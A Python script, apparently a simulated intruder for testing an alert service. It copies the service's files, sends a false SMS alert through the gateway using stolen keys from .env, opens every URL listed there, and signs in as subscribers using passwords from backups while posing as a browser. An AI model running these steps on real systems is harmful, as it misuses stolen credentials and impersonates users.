"""What an intruder does with stolen files: a process of its own, from an address of its own.

It steals the folder of the alert service, then uses what it finds with an ordinary HTTP client: sends a false alert
through the SMS gateway named in ``.env``, opens every other address in there, signs in to the service as a subscriber
whose password stands in a backup, and looks at that subscriber's page the way a browser would.

    python intruder.py FOLDER SERVICE_URL OWN_ADDRESS LOOT
"""

from __future__ import annotations

import json
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import requests
from requests.adapters import HTTPAdapter

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
FALSE_ALERT = "ALERT: your data has been handed to the authorities."


class FromAddress(HTTPAdapter):
    """Connects from one local address."""

    def __init__(self, address: str) -> None:
        self._address = address
        super().__init__()

    def init_poolmanager(self, *args: Any, **kwargs: Any) -> None:
        super().init_poolmanager(*args, source_address=(self._address, 0), **kwargs)


def client(address: str) -> requests.Session:
    """An HTTP client on ``address`` that looks at no proxy settings."""
    session = requests.Session()
    session.trust_env = False
    session.mount("http://", FromAddress(address))
    return session


def false_alerts(http: requests.Session, env: dict[str, str]) -> None:
    """Queue a text through the gateway whose account and key were stolen."""
    account = next(value for value in env.values() if re.fullmatch("AC[0-9a-f]{32}", value))
    token = next(value for value in env.values() if re.fullmatch("[0-9a-f]{32}", value))
    base = next(value for name, value in env.items() if "TWILIO" in name and value.startswith("http"))
    answer = http.post(
        f"{base}/2010-04-01/Accounts/{account}/Messages.json",
        auth=(account, token),
        data={"To": "+15555550123", "From": "+15555550100", "Body": FALSE_ALERT},
        timeout=10,
    )
    print(f"false alert through the gateway: {answer.status_code} {answer.json()['status']}")


def curious(http: requests.Session, lines: list[str]) -> None:
    """Open every other address that stands in the settings, comments included."""
    for line in lines:
        found = re.search(r"https?://\S+", line)
        if found and "TWILIO" not in line:
            print(f"opened an address in .env: {http.get(found[0], timeout=10).status_code}")


def sign_in(http: requests.Session, service: str, person: dict[str, str]) -> None:
    """Become a subscriber, and load the pictures of the page as a browser does."""
    http.headers["User-Agent"] = BROWSER
    page = http.post(
        service, data={"username": person["user_name"], "password": person["password"]}, timeout=10
    )
    for picture in re.findall(r'<img alt="" src="([^"]+)"', page.text):
        http.get(picture, headers={"Referer": service}, timeout=10)
    print(f"signed in as {person['user_name']}: {page.status_code}")


def main(folder: Path, service: str, address: str, loot: Path) -> None:
    """The theft, and the use of what was stolen."""
    shutil.copytree(folder, loot)
    lines = (loot / ".env").read_text().splitlines()
    env = dict(line.split("=", 1) for line in lines if "=" in line and not line.startswith("#"))
    http = client(address)
    false_alerts(http, env)
    curious(http, lines)
    for backup in sorted((loot / "backups").iterdir()):
        sign_in(http, service, json.loads(backup.read_text()))


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2], sys.argv[3], Path(sys.argv[4]))
